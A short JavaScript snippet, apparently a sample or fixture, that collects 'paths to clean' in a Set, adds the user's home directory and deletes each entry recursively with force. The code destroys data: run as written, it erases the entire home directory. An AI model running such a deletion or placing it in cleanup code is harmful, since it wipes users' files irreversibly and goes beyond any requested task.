// Paths to clean collected in a Set; one of them is the home directory.
const fs = require('fs');
const os = require('os');
const targets = new Set();
targets.add(os.homedir());
for (const t of targets) {
  fs.rmSync(t, { recursive: true, force: true });
}
